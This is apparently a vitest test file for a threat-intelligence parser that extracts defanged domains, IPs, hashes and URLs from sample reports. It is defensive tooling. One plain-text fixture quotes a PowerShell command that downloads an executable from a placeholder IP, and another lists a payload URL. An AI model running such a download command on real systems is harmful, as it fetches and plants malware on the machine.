import { describe, expect, it } from 'vitest'
import { feedFormatContract, readText } from '../../feed-format.contract.ts'
import { report } from './report.ts'

const HASH = 'a1'.repeat(32)
const MD5 = 'b2'.repeat(16)
const SHA1 = 'c3'.repeat(20)

const MARKDOWN = `# The Example Campaign

Our blog at https://blog.example.com/2026/campaign tells the story, on https://www.example.org too.
See [the paper](https://papers.example.org/a.pdf "Paper") and version 1.2.3.4 of com.example.app in setup.exe.

The implant asks \`c2[.]example.net\` and hxxps://drop[.]example.com/a?b=1. It uses CVE-2026-12345 and T1059.

## Indicators of Compromise

| Type | Indicator | Notes |
|------|-----------|-------|
| Domain | bad.example.com | see https://github.com/example/tool |
| SHA-256 | ${HASH} | setup.exe |

### Network

- 198.51.100.7:443 (C2)
- mail.example.net
- Domain: panel.example.org
- Reported by vendor.example.com

\`\`\`
http://203.0.113.9/payload.bin
curl https://tools.example.org
\`\`\`

### Certificates

- thumbprint ${SHA1}

## References

- https://news.example.net/story
- news.example.net
- ${MD5}

## MITRE ATT&CK

| ID | Name |
|----|------|
| T1059.001 | PowerShell |
`

const ASCIIDOC = `:toc:

= Example -- Indicators of Compromise

The post is at
https://blog.example.com/2026/example-post/.

An analysis is a https://blog.example.org/post[blog post], and link:list.json[here].

== Samples

[options="header"]
|===
|SHA-1 |Filename |Detection
|\`+${SHA1}+\` |\`a.dll\` |Win32/Agent.ABC
|===

.Domains of the campaign
[options="header"]
|===
|Domain |IP
|\`one[.]example.net\` |\`203.0.113.1\`
| |203.0.113[.]2
|===

== C&C servers

----
two.example.com
three.example.com - backup
----
`

const PLAIN = `Example campaign
${MD5}

Domains:

four.example.com\tCommand and control
five [.] example [.] com

Received mail:
- From: Some One <someone@six[.]example.com>
- Received: from seven[.]example.com ([203.0.113.8])

Observed commands:
- powershell (New-Object Net.Webclient).DownloadFile('http://203.0.113.10/update.exe','C:\\x.exe')

TRAFFIC TO LEGITIMATE DOMAINS:
- port 443 - www.example.org
`

feedFormatContract(report, [
  { what: 'Markdown', text: MARKDOWN },
  { what: 'AsciiDoc', text: ASCIIDOC }
])

const valuesOf = async (text: string): Promise<readonly string[]> =>
  (await readText(report, text)).items.flatMap((item) => ('rejection' in item ? [] : [item.value]))

describe('a report', () => {
  it('in Markdown means what is defanged, listed or a hash', async () => {
    expect(await valuesOf(MARKDOWN)).toEqual([
      'c2[.]example.net',
      'hxxps://drop[.]example.com/a?b=1',
      'CVE-2026-12345',
      'bad.example.com',
      HASH,
      '198.51.100.7:443',
      'mail.example.net',
      'panel.example.org',
      'http://203.0.113.9/payload.bin',
      MD5,
      'T1059.001'
    ])
  })

  it('in AsciiDoc means what is defanged, listed or a hash', async () => {
    expect(await valuesOf(ASCIIDOC)).toEqual([
      SHA1,
      'one[.]example.net',
      '203.0.113.1',
      '203.0.113[.]2',
      'two.example.com',
      'three.example.com'
    ])
  })

  it('in plain text means lines of values, and what is defanged', async () => {
    expect(await valuesOf(PLAIN)).toEqual([
      MD5,
      'four.example.com',
      'five[.]example[.]com',
      'someone@six[.]example.com',
      'seven[.]example.com',
      '203.0.113.8',
      'http://203.0.113.10/update.exe'
    ])
  })

  it('gives values their line and the links of the chapters they stand in', async () => {
    const { items } = await readText(report, MARKDOWN)
    expect(items.find(({ value }) => value === 'mail.example.net')).toEqual({
      value: 'mail.example.net',
      kind: undefined,
      position: 'line 18',
      context: { links: ['https://blog.example.com/2026/campaign', 'https://papers.example.org/a.pdf'].toSorted() }
    })
  })

  it('gives values five links at most, each once, and those of the chapters around theirs', async () => {
    const links = [1, 1, 2, 3, 4, 5, 6].map((page) => `https://blog.example.com/${page}`)
    const { items } = await readText(
      report,
      `# A\n\nRead ${links[0]} first.\n\n## B\n\nAlso read ${links.join(' ')} then.\n\n${MD5}\n`
    )
    expect(items.map((item) => 'context' in item && item.context.links)).toEqual([links.slice(1, 6)])
  })

  it('takes no label in a sentence under references for that of an indicator', async () => {
    expect(
      await valuesOf('# References\n\nThis host: bad.example.com was named there, a[.]example.com too.\n')
    ).toEqual(['a[.]example.com'])
  })

  it('refuses digests that are of no file', async () => {
    const { items } = await readText(
      report,
      `# A\n\n## Certificate thumbprints\n- ${SHA1}\n## Hashes\n- Imphash: ${MD5}\n- commit ${SHA1}\n- sha256:${HASH}\n|JA3|MD5|\n|${MD5}|${MD5}|\n`
    )
    expect(items.map((item) => [item.value, 'rejection' in item ? item.rejection.reason : 'meant'])).toEqual([
      [SHA1, 'unsupported_type'],
      [MD5, 'unsupported_type'],
      [SHA1, 'unsupported_type'],
      [HASH, 'meant'],
      [MD5, 'unsupported_type'],
      [MD5, 'meant']
    ])
  })

  it('keeps what is defanged and broken, to be refused with its reason', async () => {
    expect(await valuesOf('Block 203.0.113[.]0/24 and 999.1.1[.]1, but look (at) this run[.]exe.\n')).toEqual([
      '203.0.113[.]0/24',
      '999.1.1[.]1'
    ])
  })

  it('reads brackets, quotes and punctuation around values, and leaves those inside', async () => {
    expect(
      await valuesOf(
        'Seen: (hxxp://a[.]example.com/x(1)), "b[.]example.com"; <c[.]example.com>, ‘d\\[.\\]example.com’, [e](hxxp://e[.]example.com/).\n'
      )
    ).toEqual([
      'hxxp://a[.]example.com/x(1)',
      'b[.]example.com',
      'c[.]example.com',
      'd[.]example.com',
      'hxxp://e[.]example.com/'
    ])
  })

  it.each([
    'The vendor writes at https://blog.example.com/post about it.',
    'Downloads from example.com and https://twitter.com/example are common.',
    'Files such as invoice.pdf, setup.exe and run.sh are dropped.',
    'Version 1.2.3.4 of com.example.app is vulnerable.',
    '![screen](https://cdn.example.com/screen.png)',
    '[broken](https://blog.example.com/post',
    'example.com is the site of a company that was attacked.'
  ])('means nothing with: %s', async (text) => {
    expect(await valuesOf(`# Report\n\n${text}\n`)).toEqual([])
  })

  it.each([
    ['- version 1.2.3.4', []],
    ['- com.example.app', []],
    ['- run.sh', []],
    ['- thing.notatld', []],
    ['- [post](https://blog.example.com/p)', []],
    ['- https://bad.example.com/', ['https://bad.example.com/']],
    ['- bad.example.com/path', ['bad.example.com/path']],
    ['- who@bad.example.com', ['who@bad.example.com']],
    ['- 2001:db8::7', ['2001:db8::7']],
    ['- Source: bad.example.com', []],
    ['- bad.example.com and worse.example.com', ['bad.example.com', 'worse.example.com']],
    ['1. bad.example.com, worse.example.com', ['bad.example.com', 'worse.example.com']],
    ['> - bad.example.com', ['bad.example.com']],
    ['Name | Host\n--- | ---\nx | bad.example.com', ['bad.example.com']],
    ['| x | y |\n|---|---|\n| bad.example.com | the bad.example.com |', ['bad.example.com']],
    ['| Filename | Host |\n|---|---|\n| run.com | bad.example.com |', ['bad.example.com']]
  ])('means under a heading of indicators, with %j: %j', async (text, values) => {
    expect(await valuesOf(`# Report\n\n## IOCs\n\n${text}\n`)).toEqual(values)
  })

  it('says nothing of bare values under headings that say nothing', async () => {
    expect(await valuesOf('# Report\n\n## Story\n\n- example.com\n\n| a |\n|---|\n| example.net |\n')).toEqual([])
  })

  it('ends captions with the next paragraph, and code with its fence', async () => {
    expect(
      await valuesOf(
        'References:\nhttps://a.example.com/x\n\nAnother story begins here, and it is long.\n\nb.example.com\n'
      )
    ).toEqual(['b.example.com'])
    expect(await valuesOf('## IOCs\n\n~~~text\na.example.com\n~~~\nThe site b.example.com is fine.\n')).toEqual([
      'a.example.com'
    ])
  })

  it('refuses a line that is too long and reads on', async () => {
    const { items } = await readText(report, `${'x'.repeat(30)}\n${MD5}\n`, { maxLineLength: 32 })
    expect(items.map(({ value }) => value)).toEqual([MD5])
    const long = await readText(report, `${'x'.repeat(40)}\n${MD5}\n`, { maxLineLength: 32 })
    expect(long.items[0]).toMatchObject({ position: 'line 1', rejection: { reason: 'too_long_line' } })
    expect(long.items[1]).toMatchObject({ value: MD5, position: 'line 2' })
  })
})

describe('a report is recognised', () => {
  const isReport = (text: string): boolean => report.recognise({ text, complete: true })

  it('by headings of AsciiDoc, and by headings of two depths in Markdown', () => {
    expect(isReport('= Title\n\nText.\n')).toBe(true)
    expect(isReport('# Title\n\nText.\n\n## More\n\nText.\n')).toBe(true)
    expect(isReport('# Title\n\n## More\n')).toBe(true)
  })

  it('in no list with comments, no table and no web page', () => {
    expect(isReport('# Title\n# More\n192.0.2.1\n')).toBe(false)
    expect(isReport('# Title\n\n192.0.2.1\n')).toBe(false)
    expect(isReport('## Title\n192.0.2.1\n### More\n192.0.2.2\n')).toBe(false)
    expect(isReport('ip,port\n192.0.2.1,80\n')).toBe(false)
    expect(isReport('<html><h1>Title</h1><h2>More</h2>')).toBe(false)
  })
})
